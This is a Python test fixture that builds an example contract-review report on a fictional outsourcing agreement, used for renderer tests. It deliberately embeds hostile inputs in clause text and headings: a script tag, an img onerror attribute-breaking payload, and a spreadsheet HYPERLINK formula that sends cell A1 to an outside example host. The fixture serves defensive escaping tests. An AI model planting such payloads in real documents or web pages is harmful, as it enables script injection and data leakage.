"""A realistic report dict, written by hand, for the renderer tests and screenshots.

A fictional customer-service outsourcing agreement (twelve clauses over ten pages) checked
against a playbook: every status and severity occurs, partial findings lack elements (one
without element titles, as an older gap checker would write it), evidence comes with and
without clause numbers, facts of every kind, two reader warnings. Some clause text is
hostile, as contract text can be: markup that would run in a browser and a spreadsheet
formula, inside clause text, headings and snippets.
"""

from __future__ import annotations

import copy
import hashlib

from clausecheck.taxonomy import CATEGORY_IDS

SCRIPT = "<script>alert(1)</script>"
ATTRIBUTE_BREAK = '"><img src=x onerror=alert(1)>'
FORMULA = '=HYPERLINK("http://rates.example/card?q="&A1,"rate card")'

_CLAUSES = [
    # id, number, heading, page, text, labels, facts
    ("c1", "1", "Definitions", 1,
     "1. Definitions. In this Agreement \"Services\" means the inbound customer contact services described in "
     "Schedule 1, and \"Customer Data\" means all data relating to the Client's customers that the Provider "
     "receives or creates in performing the Services.", [], []),
    ("c2", "2.1", "Governance and Communication", 1,
     "2.1 Each party shall appoint a relationship manager. The relationship managers shall meet every month to "
     "review the performance of the Services and shall escalate disputes to the steering committee.",
     [("governance", 0.84)], [("duration", "every month", 1, "month")]),
    ("c3", "3.2", "Service Levels", 2,
     "3.2 The Provider shall answer 90% of calls within thirty (30) seconds and resolve 80% of customer enquiries "
     "at first contact, and shall report its performance against each service level to the Client monthly.",
     [("service_levels", 0.96)], [("percentage", "90%", 90, "percent"), ("duration", "thirty (30) seconds", 30,
                                                                          "second"),
                                  ("percentage", "80%", 80, "percent")]),
    ("c4", "4.1", "Fees", 3,
     "4.1 The Client shall pay the Provider a monthly fee of EUR 41,500 within thirty (30) days of receipt of a "
     "valid invoice.", [("fees", 0.98)],
     [("money", "EUR 41,500", 41500, "EUR"), ("duration", "thirty (30) days", 30, "day")]),
    ("c5", "4.4", "Changes to the Fees", 3,
     "4.4 The Provider may increase the Fees once a year by no more than 5%, as shown in the rate card "
     f"{FORMULA}. Additional services requested by the Client shall be charged at the rates in that card.",
     [("change_control", 0.81), ("fees", 0.77)], [("percentage", "5%", 5, "percent")]),
    ("c6", "7.1", "Confidentiality", 4,
     "7.1 Each party shall keep the other party's Confidential Information secret, use it only to perform this "
     "Agreement and return or destroy it on termination.", [("confidentiality", 0.97)], []),
    ("c7", "7.3", f"Data Protection {SCRIPT}", 4,
     "7.3 The Provider shall process Customer Data only on the Client's documented instructions and in "
     "accordance with the GDPR, shall keep it secure, and shall ensure that its web chat widget rejects customer "
     f"input such as {SCRIPT} or {ATTRIBUTE_BREAK} before storing it.",
     [("data_protection", 0.93), ("compliance", 0.62)], [("law", "the GDPR", None, None)]),
    ("c8", "9.1", "Audit", 5,
     "9.1 The Provider shall keep complete records of the Services and shall make them available to the Client's "
     "auditors on request, not more than once in any twelve (12) month period.",
     [("audit_rights", 0.88)], [("duration", "twelve (12) month", 12, "month")]),
    ("c9", "11.2", "Limitation of Liability", 6,
     "11.2 Neither party's total liability under this Agreement shall exceed the Fees paid in the twelve (12) "
     "months before the claim, save for breach of clause 7 (Confidentiality; Data Protection).",
     [("liability_cap", 0.95)], [("duration", "twelve (12) months", 12, "month")]),
    ("c10", "12.1", "Termination for Cause", 7,
     "12.1 Either party may terminate this Agreement if the other party commits a material breach of it, or "
     "becomes insolvent, enters into administration or ceases to carry on business.",
     [("termination", 0.97)], []),
    ("c11", "14", "Assignment and Subcontracting", 8,
     "14. The Provider shall not assign this Agreement or subcontract any of the Services without the Client's "
     "prior written consent, and remains responsible for its subcontractors.", [("assignment", 0.9)], []),
    ("c12", "18", "Governing Law", 9,
     "18. This Agreement is governed by the laws of England and Wales, and the courts of London have exclusive "
     "jurisdiction over any dispute arising from it, commenced on or after 1 March 2024.",
     [("governing_law", 0.99)], [("law", "the laws of England and Wales", None, None),
                                 ("date", "1 March 2024", None, None)]),
]

# requirement, title, status, severity, categories, evidence clause ids, missing elements [(id, title)],
# risk, rationale, recommendation, source
_FINDINGS = [
    ("quality-standards", "Quality standards and service levels", "present", "high", ["service_levels"], ["c3"], [],
     "Quality control: the provider's standards and incentives differ from the client's, and poor work damages "
     "customers and reputation.",
     "Without measurable standards the client cannot show that the work falls short, and has no lever to correct it.",
     "The Provider shall meet the service levels in Schedule 2, measure its performance against each of them every "
     "month and report the results to the Client with a corrective plan for any shortfall.",
     "[A] Quality Control; [B] 4. Quality problems"),
    ("data-protection", "Data protection and security", "partial", "high", ["data_protection"], ["c7", "c6"],
     [("breach-notification", "Notification of a data breach within a fixed time"),
      ("access-limits", "Access to customer data limited to named staff")],
     "Security and confidentiality: customer data shared with the provider can be stolen or leaked, with fines "
     "and loss of customers' trust.",
     "Data protection law makes the client answer for its processor; it needs to hear of a breach in time to "
     "notify regulators and customers itself.",
     "The Provider shall notify the Client without undue delay, and in any case within twenty-four (24) hours, of "
     "any breach of security affecting Customer Data, and shall limit access to Customer Data to named staff who "
     "need it to perform the Services.",
     "[A] Security and Confidentiality; [B] 3. Threat to confidentiality and security"),
    ("audit-rights", "Audit and on-site inspection rights", "partial", "high", ["audit_rights"], ["c8"],
     [("on-site-visits", "On-site visits or inspection of premises")],
     "Loss of managerial control: once the function is handed over, the client cannot see how it is run.",
     "Audit and visit rights let the client verify quality, security and compliance for itself rather than rely "
     "on the provider's word.",
     "The Client and its auditors may, on ten (10) business days' notice (or at once after a security incident), "
     "inspect the Provider's premises, systems and records used for the Services.",
     "[A] Quality Control: visiting the outsourced company on-site; [B] 1. Loss of managerial control"),
    ("termination-rights", "Termination rights with notice", "partial", "high", ["termination"], ["c10"],
     [("notice-period", "A notice period"), ("convenience", "Termination for convenience")],
     "Financial tie and dependency: without a way out the client stays bound to a provider that no longer serves it.",
     "A right to terminate for convenience on reasonable notice is the client's exit when the relationship fails "
     "short of a provable breach.",
     "The Client may terminate this Agreement, in whole or in part, for convenience on ninety (90) days' written "
     "notice to the Provider.",
     "[A] Dependency on Outsourced Company; [B] 5. Financially tied to another company"),
    ("transition-assistance", "Transition and exit assistance", "missing", "high", ["transition"], [], [],
     "Dependency on the outsourced company: at the end of the contract the client may be left without the "
     "expertise or resources to run the function.",
     "An exit plan and a duty to help move the work is what makes termination a real option.",
     "On expiry or termination the Provider shall, for up to six (6) months and at the rates in Schedule 3, "
     "continue the Services as asked and help the Client or its new provider take them over, including knowledge "
     "transfer and the return of all Customer Data.",
     "[A] Dependency on Outsourced Company: develop a transition plan"),
    ("business-continuity", "Business continuity and disaster recovery", "missing", "high",
     ["business_continuity"], [], [],
     "Dependency on the outsourced company: an outage or the provider's failure stops the client's customer "
     "service.",
     "A tested continuity plan is the only protection against the provider's own disasters.",
     "The Provider shall maintain, test every year and on request show the Client a business continuity and "
     "disaster recovery plan that restores the Services within four (4) hours.",
     "[A] Dependency on Outsourced Company: establish a contingency plan"),
    ("confidentiality", "Confidentiality", "present", "high", ["confidentiality"], ["c6"], [],
     "Security and confidentiality: trade secrets and company knowledge shared with the provider can leak.",
     "The provider sees the client's know-how and plans; secrecy must be a contractual duty.",
     "Each party shall keep the other's Confidential Information secret and return or destroy it on termination.",
     "[A] Security and Confidentiality; [B] 3. Threat to confidentiality and security"),
    ("service-credits", "Penalties and service credits", "missing", "medium", ["penalties"], [], [],
     "Quality problems: a provider paid the same whatever its performance has little reason to improve.",
     "Service credits give the service levels teeth without a claim for damages.",
     "If the Provider fails to meet a service level in any month, the monthly fee shall be reduced by the service "
     "credit in Schedule 2, up to 15% of that month's fee.",
     "[B] 3. make sure the contract contains a penalty clause; [B] 4. Quality problems"),
    ("change-control", "Change control and change fees", "partial", "medium", ["change_control"], ["c5"],
     [("change-procedure", None), ("price-cap", None)],
     "Hidden costs: anything not covered by the contract is charged extra, and every change can cost money.",
     "A change procedure with agreed prices keeps out-of-scope charges predictable.",
     "Changes to the Services shall be agreed in writing through the change procedure in Schedule 4, with the "
     "price of each change fixed before work on it starts.",
     "[B] 2. Hidden costs; [B] 4. every change could cost you additional money"),
    ("reporting-governance", "Reporting and escalation", "partial", "low", ["governance"], ["c2"],
     [("language", "Language of communications")],
     "Communication and cultural differences: misunderstandings and delays between teams in different countries.",
     "Agreed reporting, meetings and a common working language prevent most misunderstandings.",
     "All communications under this Agreement shall be in English; the Provider shall report monthly on the "
     "Services and attend the steering committee.",
     "[A] Communication and Cultural Differences"),
    ("liability", "Limitation of liability", "present", "medium", ["liability_cap"], ["c9"], [],
     "Financial tie: the client's recovery for the provider's failures may be capped too low.",
     "The cap should not limit what the client recovers for data and confidentiality breaches.",
     "Liability for breach of clause 7 shall be unlimited.", "[B] 5. Financially tied to another company"),
    ("insurance", "Insurance", "missing", "low", ["insurance"], [], [],
     "Financial tie: a provider without insurance may not be able to pay a claim.",
     "Insurance makes the provider's liability worth something.",
     "The Provider shall maintain professional indemnity insurance of at least EUR 5 million and show the Client "
     "its certificate on request.", "[B] 5. Financially tied to another company"),
    ("assignment", "Assignment and subcontracting", "present", "low", ["assignment"], ["c11"], [],
     "Loss of managerial control: the work may pass to a subcontractor the client never chose.",
     "Consent to subcontracting keeps the client in control of who does the work.",
     "The Provider shall not subcontract the Services without the Client's prior written consent.",
     "[B] 1. Loss of managerial control"),
    ("governing-law", "Governing law and jurisdiction", "present", "low", ["governing_law"], ["c12"], [],
     "Legal issues: disputes under an unfamiliar law or before foreign courts are slow and costly.",
     "A clear choice of law and forum makes disputes predictable.",
     "This Agreement is governed by the laws of [jurisdiction]; the courts of [city] have exclusive jurisdiction.",
     "[A] Security and Confidentiality: legal issues"),
]


def _snippet(text: str, limit: int = 280) -> str:
    flat = " ".join(text.split())
    if len(flat) <= limit:
        return flat
    return flat[:flat.rfind(" ", 0, limit)] + " …"


def example_report() -> dict:
    """A fresh copy of the example report (tests may change it freely)."""
    clauses, start = [], 0
    for cid, number, heading, page, text, labels, facts in _CLAUSES:
        fact_dicts = []
        for kind, words, value, unit in facts:
            fact = {"kind": kind, "text": words}
            if value is not None:
                fact.update(value=value, unit=unit)
            if kind == "law":
                fact["name"] = words.removeprefix("the ")
            fact_dicts.append(fact)
        clauses.append({"id": cid, "number": number, "heading": heading, "parent": None, "page": page,
                        "start": start, "end": start + len(text), "text": text,
                        "labels": [{"category": c, "confidence": p} for c, p in labels], "facts": fact_dicts})
        start += len(text) + 2
    by_id = {clause["id"]: clause for clause in clauses}

    findings = []
    for (requirement, title, status, severity, categories, evidence_ids, missing, risk, rationale, recommendation,
         source) in _FINDINGS:
        evidence = []
        for n, cid in enumerate(evidence_ids):
            clause = by_id[cid]
            confidence = max(label["confidence"] for label in clause["labels"])
            item = {"clause_id": cid, "page": clause["page"], "snippet": _snippet(clause["text"]),
                    "confidence": confidence}
            if n == 0:  # the gap checker may add where the clause is; the renderers must not need it
                item.update(number=clause["number"], heading=clause["heading"])
            evidence.append(item)
        finding = {"requirement": requirement, "title": title, "status": status, "severity": severity,
                   "risk": risk, "rationale": rationale, "recommendation": recommendation, "source": source,
                   "categories": categories, "missing_elements": [element for element, _ in missing],
                   "evidence": evidence}
        if all(element_title for _, element_title in missing):
            finding["missing_element_titles"] = [element_title for _, element_title in missing]
        findings.append(finding)

    categories = []
    for category in CATEGORY_IDS:
        found = sorted(((label["confidence"], clause["id"]) for clause in clauses for label in clause["labels"]
                        if label["category"] == category), reverse=True)
        categories.append({"category": category, "present": bool(found),
                           "confidence": found[0][0] if found else 0.05, "clause_ids": [cid for _, cid in found]})

    text = "\n\n".join(clause["text"] for clause in clauses)
    report = {
        "schema_version": 1,
        "tool": {"name": "clausecheck", "version": "0.1.0", "model": "clause-classifier@2024-05-01"},
        "document": {"path": 'contracts/Helix MSA "final" v3.pdf',
                     "sha256": hashlib.sha256(text.encode()).hexdigest(), "format": "pdf", "pages": 10,
                     "characters": len(text),
                     "warnings": ["page 10 has no text layer (a scanned image?): its text was not read",
                                  "pages 3-4: the running header 'Helix Contact Services - Confidential' "
                                  "was removed"]},
        "playbook": {"name": "Outsourcing agreement (default)", "version": "1.0",
                     "sources": {"A": "Risks of Outsourcing Customer Service",
                                 "B": "6 Reasons Why Outsourcing Customer Service is a Bad Idea"}},
        "clauses": clauses,
        "categories": categories,
        "findings": findings,
        "summary": {status: sum(1 for f in findings if f["status"] == status)
                    for status in ("present", "partial", "missing")},
    }
    return copy.deepcopy(report)
